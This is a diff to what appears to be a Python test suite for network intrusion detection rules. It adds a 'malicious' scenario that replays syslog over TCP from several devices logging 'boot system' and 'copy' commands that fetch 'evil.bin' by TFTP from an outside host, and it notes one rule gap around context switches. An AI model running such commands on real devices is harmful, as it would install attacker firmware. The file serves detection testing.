@@ -100,6 +100,47 @@ def bw07_logged_by_tcp(wire: Wire) -> None:
         by_tcp(wire, device, *lines)
 
 
+LOADED = f"tftp://{OUTSIDE}/evil.bin"
+FRAMED = [f"10.0.1.{number}" for number in (240, 241, 242, 243, 244)]
+"""Devices that end or count their messages in ways of their own."""
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    # No rule looks behind the change of a context.
+    raises=[
+        ("BW07", sid, device, syslog.COLLECTOR)
+        for device, sid in zip(FRAMED[:4], (*[1542007577] * 3, 1542007500), strict=True)
+    ],
+    plain=Expect(tuple(Notice("Boot_Command", device, OUTSIDE, "evil.bin") for device in FRAMED)),
+    site=HQ,
+    with_site=Expect(tuple(Notice("Boot_Command", device, OUTSIDE, "evil.bin") for device in FRAMED)),
+)
+def bw07_framed_otherwise(wire: Wire) -> None:
+    """The last message has no end but the connection's; a count comes in pieces, or a newline ends what is counted,
+    too; ASA in EMBLEM format names the class; NX-OS changes to a context first.
+    """
+    order = f"<189>86: *Jan  5 08:00:00.100: %PARSER-5-CFGLOG_LOGGEDCMD: User:a  logged command:boot system {LOADED}"
+    other = "<189>85: *Jan  5 08:00:00.100: %SYS-5-CONFIG_I: Configured from console by a on vty0"
+    counted = [f"{len(line)} {line}".encode() for line in (other, order)]
+    asa = f"<165>:Jan 05 08:00:00 UTC: %ASA-config-5-111008: User 'a' executed the 'copy {LOADED} disk0:' command.\n"
+    nxos = "<189>: 2026 Jan  5 08:00:00 UTC: %AAA-6-AAA_ACCOUNTING_MESSAGE: "
+    nxos += f"update:10.0.6.6@pts/0:a:switchto vdc x ; copy {LOADED} bootflash: (SUCCESS)\n"
+    streams = (
+        [f"{other}\n{order}".encode()],
+        [counted[0][:2], counted[0][2:3], counted[0][3:], counted[1]],
+        [b"\n".join(counted) + b"\n"],
+        [asa.encode()],
+        [nxos.encode()],
+    )
+    for device, pieces in zip(FRAMED, streams, strict=True):
+        tcp = Tcp(wire, device, 50602, syslog.COLLECTOR, 514)
+        for piece in pieces:
+            tcp.send(piece)
+        tcp.close()
+
+
 @scenario("BW07", "benign", site=HQ, with_site=Expect())
 def bw07_everyday_logs_by_tcp(wire: Wire) -> None:
     """The same devices log by TCP what they are told every day."""
